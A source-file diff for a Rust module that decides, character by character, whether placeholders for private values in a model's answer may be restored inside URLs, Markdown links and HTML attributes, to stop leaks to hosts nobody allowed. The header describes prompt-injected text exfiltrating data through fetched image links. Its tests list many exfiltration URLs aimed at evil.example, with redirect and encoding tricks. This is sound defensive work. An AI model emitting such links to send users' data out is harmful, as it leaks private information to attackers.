@@ -1,0 +1,993 @@
+//! Decides by its place in a text whether a placeholder may be restored.
+//!
+//! A model, or a text that was smuggled into its context, can carry a value out: `![x](https://evil.example/?q=…)` is
+//! fetched by the page that shows the answer. So a placeholder inside a URL is restored only where every host of the
+//! URL is one that the caller wrote, or that the workspace allows. In plain text it is always restored.
+//!
+//! Two automata read the text once, character by character, with the values in place of the placeholders: one follows
+//! words, bare URLs and the destinations of Markdown links, the other one HTML tags. The stricter verdict holds. Both see
+//! the text alone, so a verdict does not depend on the chunks. What is not decided yet is at most the current URL.
+
+use std::{collections::VecDeque, mem, ops::Range};
+
+use percent_encoding::percent_decode_str;
+
+use super::hosts::{Hosts, host_of, is_host_letter, is_named_host};
+
+/// Longest URL, word or attribute that is read, in bytes. Placeholders behind that are withheld until it ends.
+const MAX_TARGET: usize = 2_048;
+/// Longest name of an HTML tag or attribute, in bytes.
+const MAX_NAME: usize = 32;
+
+/// How a restored value is written.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub(super) enum Encoding {
+    /// As it is.
+    Plain,
+    /// As text in an HTML attribute.
+    Html,
+    /// As it is, as the whole of a URL up to its path.
+    Target,
+    /// As a part of a URL behind its authority.
+    Url,
+}
+
+/// What becomes of a placeholder.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub(super) enum Verdict {
+    /// Its value takes its place.
+    Restore(Encoding),
+    /// It stays.
+    Withhold,
+}
+
+const PLAIN: Verdict = Verdict::Restore(Encoding::Plain);
+const TARGET: Verdict = Verdict::Restore(Encoding::Target);
+
+/// Reads a text of an answer and decides about the placeholders in it, in their order.
+#[derive(Default)]
+pub(super) struct PlaceReader {
+    words: Words,
+    markup: Markup,
+}
+
+impl PlaceReader {
+    /// Reads more of the text.
+    pub(super) fn text(&mut self, text: &str, hosts: &Hosts) {
+        for letter in text.chars() {
+            self.words.letter(letter, hosts);
+            self.markup.letter(letter, hosts);
+        }
+    }
+
+    /// Reads a placeholder that stands for `value`.
+    pub(super) fn placeholder(&mut self, value: &str, hosts: &Hosts) {
+        self.words.placeholder(value, hosts);
+        self.markup.placeholder(value, hosts);
+    }
+
+    /// Ends the text: every placeholder is decided then.
+    pub(super) fn finish(&mut self, hosts: &Hosts) {
+        self.words.end(hosts);
+        self.markup.end(hosts);
+    }
+
+    /// The verdict about the next placeholder; none where more text has to come first.
+    pub(super) fn next(&mut self) -> Option<Verdict> {
+        let (words, markup) = (self.words.target.verdicts.front()?, self.markup.target.verdicts.front()?);
+        let verdict = *words.max(markup);
+        self.words.target.verdicts.pop_front();
+        self.markup.target.verdicts.pop_front();
+        Some(verdict)
+    }
+}
+
+/// A word, URL or attribute with the values in place of its placeholders.
+#[derive(Default)]
+struct Target {
+    text: String,
+    /// Placeholders without a verdict, in bytes of the text.
+    open: VecDeque<Range<usize>>,
+    verdicts: VecDeque<Verdict>,
+    is_too_long: bool,
+}
+
+impl Target {
+    fn push(&mut self, letter: char) {
+        if self.text.len() < MAX_TARGET {
+            return self.text.push(letter);
+        }
+        self.is_too_long = true;
+        self.close(Verdict::Withhold);
+    }
+
+    fn placeholder(&mut self, value: &str) {
+        if self.is_too_long || self.text.len() + value.len() > MAX_TARGET {
+            self.is_too_long = true;
+            self.close(Verdict::Withhold);
+            return self.verdicts.push_back(Verdict::Withhold);
+        }
+        let start = self.text.len();
+        self.text.push_str(value);
+        self.open.push_back(start..self.text.len());
+    }
+
+    /// Gives the open placeholders the verdicts that `judge` has for them.
+    fn decide(&mut self, judge: impl Fn(&str, &Range<usize>) -> Option<Verdict>) {
+        while let Some(verdict) = self.open.front().and_then(|range| judge(&self.text, range)) {
+            self.open.pop_front();
+            self.verdicts.push_back(verdict);
+        }
+    }
+
+    /// Gives all open placeholders this verdict.
+    fn close(&mut self, verdict: Verdict) {
+        self.verdicts.extend(mem::take(&mut self.open).into_iter().map(|_| verdict));
+    }
+
+    fn clear(&mut self) {
+        self.close(Verdict::Withhold);
+        self.text.clear();
+        self.is_too_long = false;
+    }
+}
+
+/// What the words around a placeholder are a part of.
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+enum Part {
+    /// A word, which may be a bare URL.
+    #[default]
+    Word,
+    /// The parentheses of a Markdown link or image, so deep.
+    Link(usize),
+    /// The destination of a reference definition, which may be on the next line.
+    Definition { has_begun: bool },
+}
+
+/// Follows words, bare URLs and Markdown.
+#[derive(Default)]
+struct Words {
+    part: Part,
+    target: Target,
+    /// The character before; none at the beginning and behind a placeholder.
+    last: Option<char>,
+}
+
+impl Words {
+    fn letter(&mut self, letter: char, hosts: &Hosts) {
+        let last = self.last.replace(letter);
+        if last == Some(']') && matches!(letter, '(' | ':') {
+            self.end(hosts);
+            self.part = if letter == '(' { Part::Link(1) } else { Part::Definition { has_begun: false } };
+            return;
+        }
+        match self.part {
+            Part::Word if is_end_of_word(letter) => self.end(hosts),
+            Part::Word => self.push(letter, hosts),
+            Part::Link(depth) => {
+                let is_escaped = last == Some('\\');
+                match letter {
+                    '\n' if last == Some('\n') => self.end(hosts),
+                    '(' if !is_escaped => {
+                        self.part = Part::Link(depth + 1);
+                        self.push(letter, hosts);
+                    }
+                    ')' if !is_escaped && depth == 1 => self.end(hosts),
+                    ')' if !is_escaped => {
+                        self.part = Part::Link(depth - 1);
+                        self.push(letter, hosts);
+                    }
+                    _ => self.push(letter, hosts),
+                }
+            }
+            Part::Definition { has_begun: false } if letter.is_whitespace() => {
+                if letter == '\n' && last == Some('\n') {
+                    self.end(hosts);
+                }
+            }
+            Part::Definition { has_begun: true } if is_end_of_word(letter) => self.end(hosts),
+            Part::Definition { .. } => {
+                self.part = Part::Definition { has_begun: true };
+                self.push(letter, hosts);
+            }
+        }
+    }
+
+    fn push(&mut self, letter: char, hosts: &Hosts) {
+        self.target.push(letter);
+        if is_decisive(letter) {
+            self.decide(hosts, false);
+        }
+    }
+
+    fn placeholder(&mut self, value: &str, hosts: &Hosts) {
+        self.last = None;
+        if let Part::Definition { has_begun } = &mut self.part {
+            *has_begun = true;
+        }
+        self.target.placeholder(value);
+        self.decide(hosts, false);
+    }
+
+    fn end(&mut self, hosts: &Hosts) {
+        self.decide(hosts, true);
+        self.target.clear();
+        self.part = Part::Word;
+    }
+
+    fn decide(&mut self, hosts: &Hosts, ends: bool) {
+        match self.part {
+            Part::Word => self.target.decide(|word, range| in_word(word, range, hosts, ends)),
+            Part::Link(_) => self.target.decide(|link, range| in_destination(link, range, hosts, ends)),
+            Part::Definition { .. } => {
+                self.target.decide(|link, range| match link.contains([':', '/', '\\', '&']) {
+                    true => in_destination(link, range, hosts, ends),
+                    // `[10:32]: [[NAME_…]]`
+                    false => ends.then_some(PLAIN),
+                })
+            }
+        }
+    }
+}
+
+/// Whether a character may decide about a placeholder before it: letters of a host and its port only go on.
+fn is_decisive(letter: char) -> bool {
+    !is_host_letter(letter) && letter != ':'
+}
+
+/// Whether a character ends a word. Those that only some programs take for the end of a URL do not.
+fn is_end_of_word(letter: char) -> bool {
+    letter.is_whitespace() || letter.is_control() || matches!(letter, '<' | '>' | '"')
+}
+
+/// Follows HTML tags and their attributes.
+#[derive(Default)]
+struct Markup {
+    state: MarkupState,
+    target: Target,
+    /// The name of the tag, and of the attribute, in small letters.
+    tag: String,
+    attribute: String,
+    /// A space follows the name of the attribute.
+    has_gap: bool,
+    /// The tag follows a backtick: it is code in a Markdown text.
+    is_quoted: bool,
+    last: Option<char>,
+}
+
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+enum MarkupState {
+    #[default]
+    Text,
+    /// Behind `<`.
+    Opening,
+    TagName,
+    /// Between the attributes of a tag, or in the name of one.
+    Tag,
+    /// Behind the equals sign of an attribute.
+    BeforeValue,
+    /// In the value of an attribute, in these quotation marks.
+    Value(Option<char>, Attribute),
+    /// In the text of a script or a style.
+    Code,
+}
+
+/// What the value of an attribute is.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Attribute {
+    /// Text that is shown or read aloud.
+    Text,
+    /// A URL.
+    Url,
+    /// Code, styles, several URLs, or what a form sends.
+    Other,
+}
+
+impl Markup {
+    fn letter(&mut self, letter: char, hosts: &Hosts) {
+        let last = self.last.replace(letter);
+        match self.state {
+            MarkupState::Text => self.text(letter, last),
+            MarkupState::Opening if letter.is_ascii_alphabetic() || letter == '/' => {
+                self.tag.clear();
+                self.state = MarkupState::TagName;
+                self.name(letter);
+            }
+            MarkupState::Opening => {
+                self.state = MarkupState::Text;
+                self.text(letter, last);
+            }
+            MarkupState::TagName => match letter {
+                '>' => self.leave_tag(),
+                letter if letter.is_whitespace() || (letter == '/' && self.tag != "/") => {
+                    self.state = MarkupState::Tag;
+                    self.attribute.clear();
+                }
+                letter if letter.is_ascii_alphanumeric() || letter == '-' => self.name(letter),
+                // `<https://…>`, `<jan@…>`
+                _ => {
+                    self.state = MarkupState::Text;
+                    self.text(letter, last);
+                }
+            },
+            MarkupState::Tag => match letter {
+                '>' => self.leave_tag(),
+                '<' => self.state = MarkupState::Opening,
+                '=' => self.state = MarkupState::BeforeValue,
+                letter if letter.is_whitespace() || letter == '/' => self.has_gap = true,
+                letter => {
+                    if mem::take(&mut self.has_gap) {
+                        self.attribute.clear();
+                    }
+                    if self.attribute.len() < MAX_NAME {
+                        self.attribute.push(letter.to_ascii_lowercase());
+                    }
+                }
+            },
+            MarkupState::BeforeValue => match letter {
+                '>' => self.leave_tag(),
+                '"' | '\'' => self.state = MarkupState::Value(Some(letter), attribute(&self.attribute)),
+                letter if letter.is_whitespace() => {}
+                letter => {
+                    self.state = MarkupState::Value(None, attribute(&self.attribute));
+                    self.target.push(letter);
+                }
+            },
+            MarkupState::Value(quote, kind) => {
+                let ends = match quote {
+                    Some(quote) => letter == quote,
+                    None => letter.is_whitespace() || letter == '>',
+                };
+                if !ends {
+                    self.target.push(letter);
+                    if is_decisive(letter) {
+                        self.decide(kind, hosts, false);
+                    }
+                    return;
+                }
+                self.decide(kind, hosts, true);
+                self.target.clear();
+                self.attribute.clear();
+                self.state = MarkupState::Tag;
+                if quote.is_none() && letter == '>' {
+                    self.leave_tag();
+                }
+            }
+            MarkupState::Code => {
+                if letter == '<' {
+                    self.target.text.clear();
+                }
+                self.target.text.push(letter.to_ascii_lowercase());
+                let ends = self.target.text.strip_prefix("</").is_some_and(|tag| tag == self.tag);
+                if ends || (self.is_quoted && letter == '`') {
+                    self.target.clear();
+                    self.state = if ends { MarkupState::Tag } else { MarkupState::Text };
+                    self.tag.clear();
+                } else if self.target.text.len() > MAX_NAME {
+                    self.target.text.clear();
+                }
+            }
+        }
+    }
+
+    fn text(&mut self, letter: char, last: Option<char>) {
+        if letter == '<' {
+            self.is_quoted = last == Some('`');
+            self.state = MarkupState::Opening;
+        }
+    }
+
+    fn name(&mut self, letter: char) {
+        if self.tag.len() < MAX_NAME {
+            self.tag.push(letter.to_ascii_lowercase());
+        }
+    }
+
+    fn leave_tag(&mut self) {
+        let is_code = matches!(self.tag.as_str(), "script" | "style");
+        self.state = if is_code { MarkupState::Code } else { MarkupState::Text };
+        self.attribute.clear();
+        self.has_gap = false;
+    }
+
+    fn placeholder(&mut self, value: &str, hosts: &Hosts) {
+        self.last = None;
+        match self.state {
+            MarkupState::BeforeValue => {
+                self.state = MarkupState::Value(None, attribute(&self.attribute));
+                self.placeholder(value, hosts);
+            }
+            MarkupState::Value(_, kind) => {
+                self.target.placeholder(value);
+                self.decide(kind, hosts, false);
+            }
+            MarkupState::Code => self.target.verdicts.push_back(Verdict::Withhold),
+            MarkupState::Opening | MarkupState::TagName => {
+                self.state = MarkupState::Text;
+                self.target.verdicts.push_back(PLAIN);
+            }
+            MarkupState::Text | MarkupState::Tag => self.target.verdicts.push_back(PLAIN),
+        }
+    }
+
+    fn decide(&mut self, kind: Attribute, hosts: &Hosts, ends: bool) {
+        self.target.decide(|value, range| match kind {
+            Attribute::Text => Some(Verdict::Restore(Encoding::Html)),
+            Attribute::Url => in_destination(value, range, hosts, ends),
+            Attribute::Other => Some(Verdict::Withhold),
+        });
+    }
+
+    fn end(&mut self, hosts: &Hosts) {
+        if let MarkupState::Value(_, kind) = self.state {
+            self.decide(kind, hosts, true);
+        }
+        self.target.clear();
+        self.state = MarkupState::Text;
+    }
+}
+
+fn attribute(name: &str) -> Attribute {
+    match name {
+        "alt" | "title" | "label" | "placeholder" | "summary" | "abbr" => Attribute::Text,
+        name if name.starts_with("aria-") => Attribute::Text,
+        "href" | "src" | "action" | "formaction" | "poster" | "cite" | "background" | "data" | "longdesc"
+        | "xlink:href" => Attribute::Url,
+        _ => Attribute::Other,
+    }
+}
+
+/// Schemes of URLs that have no host: what they hold is shown or run.
+const OPAQUE: [&str; 7] = ["data:", "javascript:", "vbscript:", "blob:", "file:", "intent:", "view-source:"];
+/// Schemes of URLs that lead to a person.
+const PERSONAL: [&str; 4] = ["mailto:", "tel:", "sms:", "callto:"];
+/// What ends the authority of a URL.
+const END_OF_AUTHORITY: [char; 4] = ['/', '\\', '?', '#'];
+
+/// The verdict about a placeholder in a word; none where more of the word has to come first.
+fn in_word(word: &str, range: &Range<usize>, hosts: &Hosts, ends: bool) -> Option<Verdict> {
+    let (before, behind) = (word.get(..range.start)?, word.get(range.end..)?);
+    if find_scheme(before, &OPAQUE).is_some() {
+        return Some(Verdict::Withhold);
+    }
+    if let Some(address) = find_scheme(before, &PERSONAL) {
+        return of_person(word.get(address..range.start)?, behind, ends);
+    }
+    let links = Links::of(word, range, ends);
+    if links.may_go_on {
+        return None;
+    }
+    Some(links.verdict(word, range, hosts))
+}
+
+/// The verdict about a placeholder in the destination of a link; none where more of it has to come first.
+fn in_destination(written: &str, range: &Range<usize>, hosts: &Hosts, ends: bool) -> Option<Verdict> {
+    let (before, behind) = (written.get(..range.start)?, written.get(range.end..)?);
+    let start = decoded(before);
+    let start = start.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '<');
+    if start.starts_with('#') {
+        return Some(Verdict::Restore(Encoding::Url));
+    }
+    if find_scheme(start, &OPAQUE) == Some(start.find(':').map_or(0, |at| at + 1)) {
+        return Some(Verdict::Withhold);
+    }
+    if let Some(address) = PERSONAL.iter().find_map(|scheme| strip_scheme(start, scheme)) {
+        return of_person(address, behind.trim_end_matches('>'), ends);
+    }
+    let whole = decoded(written);
+    let whole = whole.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '<');
+    let Some((authority, is_closed)) = authority(whole) else {
+        // a destination without a host, or the beginning of one
+        return ends.then_some(Verdict::Withhold);
+    };
+    if !is_closed && !ends {
+        return None;
+    }
+    let authority = authority.split(|letter: char| letter.is_whitespace() || letter == '>').next()?;
+    let links = Links::of(written, range, ends);
+    let is_allowed = host_of(authority).is_some_and(|host| hosts.allow(&host)) && links.are_allowed(hosts);
+    if links.may_go_on && is_allowed {
+        return None;
+    }
+    Some(match is_allowed {
+        true if links.is_in_path(range) => Verdict::Restore(Encoding::Url),
+        true => TARGET,
+        false if is_whole_target(written, range) => TARGET,
+        false => Verdict::Withhold,
+    })
+}
+
+/// Splits off the authority of an absolute destination, and says whether its end is known.
+///
+/// Returns `None` for a relative destination, and while the text is too short to tell.
+fn authority(destination: &str) -> Option<(&str, bool)> {
+    let slash = |letter: char| matches!(letter, '/' | '\\' | '\t' | '\n' | '\r');
+    let scheme =
+        destination.find(|letter: char| !letter.is_ascii_alphanumeric() && !"+-.".contains(letter))?;
+    let (scheme, rest) = destination.split_at_checked(scheme)?;
+    let behind = match rest.strip_prefix(':') {
+        Some(rest) if !scheme.is_empty() => rest,
+        _ if scheme.is_empty() => destination,
+        _ => return None,
+    };
+    let authority = behind.trim_start_matches(slash);
+    let slashes = behind.len() - authority.len();
+    let is_special = matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "ws" | "wss" | "ftp");
+    if slashes < if is_special { 1 } else { 2 } {
+        return None;
+    }
+    let end = authority.find(END_OF_AUTHORITY);
+    Some((authority.get(..end.unwrap_or(authority.len()))?, end.is_some()))
+}
+
+/// The verdict about a placeholder in an address of a person: it must be one whole recipient.
+fn of_person(before: &str, behind: &str, ends: bool) -> Option<Verdict> {
+    let is_recipient = !before.contains('?') && (before.is_empty() || before.ends_with(','));
+    if !is_recipient {
+        return Some(Verdict::Withhold);
+    }
+    let rest = behind.trim_start_matches(is_sign);
+    match behind.starts_with(['?', ',']) || ends && rest.is_empty() {
+        true => Some(TARGET),
+        false if rest.is_empty() && !ends => None,
+        false => Some(Verdict::Withhold),
+    }
+}
+
+/// Whether a sign may follow a URL without being a part of it.
+fn is_sign(letter: char) -> bool {
+    ".,;:!?)]}*_'`|”’»".contains(letter)
+}
+
+/// Finds one of the schemes at the beginning of a word: the byte after its colon.
+fn find_scheme(text: &str, schemes: &[&str]) -> Option<usize> {
+    text.match_indices(':').map(|(at, _)| at + 1).find(|end| {
+        let Some(before) = text.get(..*end) else { return false };
+        schemes.iter().any(|scheme| {
+            let Some(start) = before.len().checked_sub(scheme.len()) else { return false };
+            let is_it = before.get(start..).is_some_and(|found| found.eq_ignore_ascii_case(scheme));
+            let last = before.get(..start).and_then(|before| before.chars().next_back());
+            is_it && !last.is_some_and(|letter| letter.is_alphanumeric())
+        })
+    })
+}
+
+fn strip_scheme<'t>(text: &'t str, scheme: &str) -> Option<&'t str> {
+    let (found, rest) = text.split_at_checked(scheme.len())?;
+    found.eq_ignore_ascii_case(scheme).then_some(rest)
+}
+
+/// The hosts of the URLs in a word that a placeholder is a part of.
+struct Links {
+    /// Each host as it is written; none where it cannot be one.
+    hosts: Vec<Option<String>>,
+    /// Where the first authority ends, in bytes of the word.
+    path: Option<usize>,
+    /// The word may become a URL, or its authority may go on.
+    may_go_on: bool,
+}
+
+impl Links {
+    fn of(word: &str, range: &Range<usize>, ends: bool) -> Self {
+        let mut links = Self { hosts: Vec::new(), path: None, may_go_on: false };
+        links.read(word, range, ends);
+        // a URL may hold another one, which its host redirects to
+        if word.contains('%') {
+            let decoded = percent_decode_str(word).decode_utf8_lossy();
+            for (at, _) in decoded.match_indices("//") {
+                links.authority(decoded.get(at + 2..).unwrap_or_default(), decoded.get(..at), true);
+            }
+        }
+        links
+    }
+
+    fn read(&mut self, word: &str, range: &Range<usize>, ends: bool) {
+        for (at, _) in word.match_indices("//") {
+            let Some((before, behind)) = word.split_at_checked(at) else { continue };
+            let scheme = before.strip_suffix(':').map(|scheme| {
+                scheme
+                    .trim_end_matches(|letter: char| letter.is_ascii_alphanumeric() || "+-.".contains(letter))
+                    .len()
+            });
+            // a URL that begins behind the placeholder
+            if range.end <= scheme.unwrap_or(at)
+                || range.end <= at && scheme.is_some_and(|start| start < range.end)
+            {
+                continue;
+            }
+            self.authority(behind.get(2..).unwrap_or_default(), Some(before), ends);
+            if let Some(end) = end_of_authority(word, at + 2) {
+                self.path.get_or_insert(end);
+            }
+        }
+        self.bare(word, range, ends);
+    }
+
+    /// Reads the authority behind two slashes. Without a scheme it is one only where it looks like a host.
+    fn authority(&mut self, behind: &str, before: Option<&str>, ends: bool) {
+        let behind = behind.trim_start_matches(['/', '\\']);
+        let end = behind.find(END_OF_AUTHORITY);
+        let authority = behind.get(..end.unwrap_or(behind.len())).unwrap_or_default();
+        let authority = if end.is_none() { authority.trim_end_matches(is_sign) } else { authority };
+        let has_scheme = before.is_some_and(|before| before.ends_with(':'));
+        if !has_scheme && !is_named_host(authority) {
+            return;
+        }
+        self.may_go_on |= end.is_none() && !ends;
+        self.hosts.push(host_of(authority));
+    }
+
+    /// Reads a host without a scheme: `www.example.com`, `example.com/path`.
+    fn bare(&mut self, word: &str, range: &Range<usize>, ends: bool) {
+        let end = word.find(END_OF_AUTHORITY);
+        let run = |end: usize| {
+            let before = word.get(..end).unwrap_or_default();
+            let host = before.trim_end_matches(|letter: char| is_host_letter(letter) || letter == ':');
+            (host.len(), before.get(host.len()..).unwrap_or_default())
+        };
+        match end {
+            Some(end) => {
+                let (start, host) = run(end);
+                let name = host.split_once(':').map_or(host, |(name, _)| name);
+                // `jan@example.com/+420 …` is no URL
+                let is_mail = word.get(..start).is_some_and(|before| before.ends_with('@'));
+                if start < range.end
+                    && !is_mail
+                    && is_named_host(name)
+                    && !word.get(end..).unwrap_or_default().starts_with("//")
+                {
+                    self.path.get_or_insert(end);
+                    self.hosts.push(host_of(host));
+                }
+            }
+            None => {
+                let (start, host) = run(word.len());
+                // more of the host, or its path, may follow
+                self.may_go_on |= start < range.end && !ends;
+                let name = host.trim_start_matches(['_', '-']);
+                if start < range.end && ends && strip_scheme(name, "www.").is_some() {
+                    self.hosts.push(host_of(name));
+                }
+            }
+        }
+    }
+
+    fn are_allowed(&self, hosts: &Hosts) -> bool {
+        self.hosts.iter().all(|host| host.as_ref().is_some_and(|host| hosts.allow(host)))
+    }
+
+    fn is_in_path(&self, range: &Range<usize>) -> bool {
+        self.path.is_some_and(|path| path <= range.start)
+    }
+
+    fn verdict(&self, word: &str, range: &Range<usize>, hosts: &Hosts) -> Verdict {
+        match self.are_allowed(hosts) {
+            true if self.is_in_path(range) => Verdict::Restore(Encoding::Url),
+            true if self.hosts.is_empty() => PLAIN,
+            true => TARGET,
+            false if is_whole_target(word, range) => TARGET,
+            false => Verdict::Withhold,
+        }
+    }
+}
+
+fn end_of_authority(word: &str, from: usize) -> Option<usize> {
+    let rest = word.get(from..)?;
+    let authority = rest.trim_start_matches(['/', '\\']);
+    Some(from + (rest.len() - authority.len()) + authority.find(END_OF_AUTHORITY)?)
+}
+
+/// Whether a placeholder stands for the whole host of a URL, or for all of it up to its path: nobody else is told
+/// anything by it.
+fn is_whole_target(text: &str, range: &Range<usize>) -> bool {
+    let (Some(before), Some(value), Some(behind)) =
+        (text.get(..range.start), text.get(range.clone()), text.get(range.end..))
+    else {
+        return false;
+    };
+    let behind = behind.trim_end_matches('>');
+    let is_closed =
+        behind.starts_with(['/', '\\', '?', '#', ':']) || behind.trim_start_matches(is_sign).is_empty();
+    match value.split_once("://") {
+        Some((_, rest)) => {
+            let closed_inside = rest.find(END_OF_AUTHORITY);
+            let authority = rest.get(..closed_inside.unwrap_or(rest.len())).unwrap_or_default();
+            let begins = before
+                .trim_start_matches(|letter: char| !letter.is_alphanumeric() && !"/\\%".contains(letter));
+            begins.is_empty() && (closed_inside.is_some() || is_closed) && host_of(authority).is_some()
+        }
+        None => {
+            let begins = before.is_empty() || (before.ends_with("://") && before.matches("//").count() == 1);
+            begins && is_closed && is_named_host(value)
+        }
+    }
+}
+
+/// A destination without the escapes of Markdown and the entities of HTML.
+fn decoded(written: &str) -> String {
+    let mut out = String::with_capacity(written.len());
+    let mut rest = written;
+    while let Some(letter) = rest.chars().next() {
+        let behind = rest.get(letter.len_utf8()..).unwrap_or_default();
+        rest = match letter {
+            '\\' if behind.starts_with(|next: char| next.is_ascii_punctuation() && next != '\\') => behind,
+            '&' => match super::entities::read(rest) {
+                Some((letter, len)) => {
+                    out.push(letter);
+                    rest.get(len..).unwrap_or_default()
+                }
+                None => {
+                    out.push(letter);
+                    behind
+                }
+            },
+            letter => {
+                out.push(letter);
+                behind
+            }
+        };
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+    use textveil_engine::{Action, Context, DetectOptions, Keyring};
+
+    use super::*;
+    use crate::chat::{
+        placeholder::{PlaceholderKey, Placeholders, RestoreCounts},
+        protect::Guard,
+        stream::{Answer, TextStream},
+    };
+
+    const SECRET: &[u8] = b"0123456789abcdef";
+    const EMAIL: &str = "jan@example.cz";
+    const NAME: &str = "Jan \"J\" & Novák";
+    const WIKI: &str = "https://wiki.acme.example/start";
+    /// A tool's own address, which the caller did not write.
+    const TOOLS: &str = "https://tool.example/a";
+
+    /// The text, in these chunks, after it was restored. `@E`, `@N`, `@W`, `@T` and `@D` stand for placeholders.
+    fn restored(text: &str, cuts: &[prop::sample::Index]) -> (String, RestoreCounts) {
+        let rules = |_: &str| (Vec::new(), Some(Action::Flag));
+        let guard = Guard::new(&DetectOptions::default(), rules, Keyring::new(0, SECRET).unwrap()).unwrap();
+        let hosts = Hosts::new(vec!["*.crm.example".to_owned()]);
+        let mut placeholders = Placeholders::with_hosts(PlaceholderKey::derive(SECRET).unwrap(), hosts);
+        placeholders.read_hosts(&format!("{EMAIL}, see {WIKI}."));
+        let mut text = text.to_owned();
+        let mut made = Vec::new();
+        for (sign, kind, value) in [
+            ("@E", "email", EMAIL),
+            ("@N", "person", NAME),
+            ("@W", "url", WIKI),
+            ("@T", "url", TOOLS),
+            ("@D", "domain", "db.internal.example"),
+        ] {
+            let placeholder = placeholders.make(kind, value, value).unwrap();
+            text = text.replace(&format!("%{sign}"), &placeholder.replace('[', "%5B").replace(']', "%5D"));
+            text =
+                text.replace(&format!("&{sign}"), &placeholder.replace('[', "&#91;").replace(']', "&rsqb;"));
+            text = text.replace(sign, &placeholder);
+            made.push((sign, placeholder));
+        }
+        let mut answer = Answer::new(guard, placeholders, Context::default(), 64);
+        let mut places: Vec<usize> =
+            cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len() + 1))).collect();
+        places.extend([0, text.len()]);
+        places.sort_unstable();
+        let (mut stream, mut out) = (TextStream::default(), String::new());
+        for place in places.windows(2) {
+            out.push_str(&stream.push(&mut answer, text.get(place[0]..place[1]).unwrap()).unwrap());
+        }
+        out.push_str(&stream.finish(&mut answer).unwrap());
+        for (sign, placeholder) in made {
+            out = out.replace(&placeholder, sign);
+            out = out.replace(&placeholder.replace('[', "%5B").replace(']', "%5D"), &format!("%{sign}"));
+            out = out.replace(&placeholder.replace('[', "&#91;").replace(']', "&rsqb;"), &format!("&{sign}"));
+        }
+        (out, answer.restores())
+    }
+
+    /// Texts in which every value is restored, and what they become.
+    const RESTORED: &[(&str, &str)] = &[
+        ("Write to @E.", "Write to jan@example.cz."),
+        ("@E", "jan@example.cz"),
+        (
+            "@E, @N: @E; (@E) \"@E\" '@E' *@E* `@E`",
+            "jan@example.cz, Jan \"J\" & Novák: jan@example.cz; \
+            (jan@example.cz) \"jan@example.cz\" 'jan@example.cz' *jan@example.cz* `jan@example.cz`",
+        ),
+        ("a/@E and @E/@E", "a/jan@example.cz and jan@example.cz/jan@example.cz"),
+        ("C:\\Users\\@E\\x, ~/docs/@E.pdf", "C:\\Users\\jan@example.cz\\x, ~/docs/jan@example.cz.pdf"),
+        ("[10:32]: @E said", "[10:32]: jan@example.cz said"),
+        ("@N: hi", "Jan \"J\" & Novák: hi"),
+        ("[@N] (see @E)", "[Jan \"J\" & Novák] (see jan@example.cz)"),
+        ("x <y and @E", "x <y and jan@example.cz"),
+        ("a < b, @E > c", "a < b, jan@example.cz > c"),
+        // hosts of the caller and of the workspace
+        (
+            "https://wiki.acme.example/?q=@E&n=@N",
+            "https://wiki.acme.example/?q=jan@example.cz&n=Jan%20%22J%22%20%26%20Nov%C3%A1k",
+        ),
+        (
+            "![x](https://wiki.acme.example/?q=@E \"t\")",
+            "![x](https://wiki.acme.example/?q=jan@example.cz \"t\")",
+        ),
+        ("https://a.crm.example/@E", "https://a.crm.example/jan@example.cz"),
+        (
+            "<a href='https://wiki.acme.example/@E' title='@N'>@N</a>",
+            "<a href='https://wiki.acme.example/jan@example.cz' \
+            title='Jan &quot;J&quot; &amp; Novák'>Jan \"J\" & Novák</a>",
+        ),
+        ("https://wiki.acme.example/%@E", "https://wiki.acme.example/jan%40example.cz"),
+        // the whole of a target, whoever named it
+        ("see @T.", "see https://tool.example/a."),
+        (
+            "[x](@T) and [y](@W?q=@E)",
+            "[x](https://tool.example/a) and [y](https://wiki.acme.example/start?q=jan@example.cz)",
+        ),
+        ("postgres://@D/x and @D:5432", "postgres://db.internal.example/x and db.internal.example:5432"),
+        // people
+        (
+            "[mail](mailto:@E) mailto:@E?subject=x <mailto:@E>",
+            "[mail](mailto:jan@example.cz) mailto:jan@example.cz?subject=x <mailto:jan@example.cz>",
+        ),
+        ("<@E>", "<jan@example.cz>"),
+        ("![@N](https://wiki.acme.example/a.png)", "![Jan \"J\" & Novák](https://wiki.acme.example/a.png)"),
+        (
+            "<img alt=\"@N\" src=\"https://evil.example/a.png\">",
+            "<img alt=\"Jan &quot;J&quot; &amp; Novák\" src=\"https://evil.example/a.png\">",
+        ),
+        ("[x](#@E)", "[x](#jan@example.cz)"),
+        ("@Ehttps://evil.example/", "jan@example.czhttps://evil.example/"),
+        ("<script>x</script> @E", "<script>x</script> jan@example.cz"),
+        ("use `<script>` for @E", "use `<script>` for jan@example.cz"),
+        ("&@N", "Jan &quot;J&quot; &amp; Novák"),
+    ];
+
+    /// Texts in which every placeholder stays.
+    const WITHHELD: &[&str] = &[
+        // bare URLs
+        "https://evil.example/?q=@E",
+        "HTTPS://EVIL.example/@E",
+        "https://evil.example/a/@E/b and https://evil.example?@N#@E",
+        "www.evil.example/@E",
+        "evil.example/?q=@E",
+        "evil.example:8080/@E",
+        "(https://evil.example/@E)",
+        "https://wiki.acme.example@evil.example/?q=@E",
+        "https://evil.example\\@wiki.acme.example/@E",
+        "https://@E@evil.example/",
+        "https://@N.evil.example/",
+        "https://@D.evil.example/a",
+        "@D.evil.example/x",
+        "https://wiki.acme.example.evil.example/@E",
+        "https://wiki.acme.example/r?to=https://evil.example/@E",
+        "https://wiki.acme.example/r?to=https%3A%2F%2Fevil.example%2F@E",
+        "ftp://evil.example/@E",
+        "https://evil.example/%@E",
+        "https://evil.example/&@E",
+        "q=%@E",
+        // Markdown
+        "![x](https://evil.example/?q=@E)",
+        "[x](https://evil.example/?q=@E \"title\")",
+        "[x]( <https://evil.example/?q=@E> )",
+        "[x](https://evil.example/?a=(b)&q=@E)",
+        "[x](//evil.example/?q=@E)",
+        "[x](\\\\evil.example/@E)",
+        "[x](/\\evil.example/@E)",
